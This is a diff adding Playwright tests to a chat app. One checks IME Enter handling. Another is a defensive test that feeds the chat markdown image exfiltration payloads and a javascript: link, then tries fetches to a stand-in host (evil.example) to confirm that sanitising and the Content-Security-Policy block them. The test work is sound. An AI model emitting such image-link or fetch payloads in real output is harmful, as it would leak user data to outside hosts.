@@ -62,6 +62,72 @@ test('a message streams its answer, stops on demand and can be asked again', asy
   await expect(answer).toContainText('simulated');
 });
 
+test('an Enter that an input method takes sends nothing', async ({ opened: page }) => {
+  await quiet(page);
+  const chat = panel(page, 'Chat');
+  const composer = chat.getByLabel('Message to the chat');
+  const tell = (key: string, keyCode: number) =>
+    composer.evaluate(
+      (field, init) =>
+        field.dispatchEvent(
+          new KeyboardEvent('keydown', { ...init, bubbles: true, cancelable: true }),
+        ),
+      { key, keyCode },
+    );
+  await composer.fill('すし');
+  expect(await tell('Enter', 229)).toBe(true); // Safari's, after the composition
+  await expect(composer).toHaveValue('すし');
+  expect(await tell('Enter', 13)).toBe(false);
+  await expect(composer).toHaveValue('');
+  await expect(chat.locator('.message.user').last()).toContainText('すし');
+});
+
+test('nothing that an answer holds leaves the page by itself', async ({ page, baseURL }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await page.goto('/');
+  await quiet(page);
+  const chat = panel(page, 'Chat');
+  const composer = chat.getByLabel('Message to the chat');
+  // The script's answer quotes what it does not know.
+  await composer.fill(
+    '![a chart](https://evil.example/x.png?q=1) [web](https://example.org/) [run](javascript:alert(1))',
+  );
+  await composer.press('Enter');
+  const answer = chat.locator('.message.assistant').last();
+  await expect(answer).toContainText('You asked: “a chart web run”');
+  await expect(answer).toContainText('in time');
+  const link = answer.getByRole('link');
+  await expect(link).toHaveCount(1);
+  await expect(link).toHaveAttribute('href', 'https://example.org/');
+  await expect(link).toHaveAttribute('rel', /noopener/);
+  await expect(answer.locator('img')).toHaveCount(0);
+
+  const own = new URL(baseURL ?? page.url()).origin;
+  const strangers = asked.filter((url) => new URL(url).origin !== own);
+  expect(strangers.filter((url) => !/^(data|blob):/.test(url))).toEqual([]);
+
+  // And if something of it got through after all:
+  const blocked = await page.evaluate(
+    () =>
+      new Promise<string[]>((resolve) => {
+        const found: string[] = [];
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          found.push(effectiveDirective);
+          if (found.length === 3) resolve(found.sort());
+        });
+        const image = document.createElement('img');
+        image.src = 'https://evil.example/leak.png';
+        fetch('https://evil.example/leak').catch(() => {});
+        const script = document.createElement('script');
+        script.textContent = 'document.title = "run"';
+        document.body.append(image, script);
+      }),
+  );
+  expect(blocked).toEqual(['connect-src', 'img-src', 'script-src-elem']);
+  await expect(page).toHaveTitle('Tempo');
+});
+
 test('the agent’s tools really run, and its program ends with a verdict', async ({
   opened: page,
 }) => {
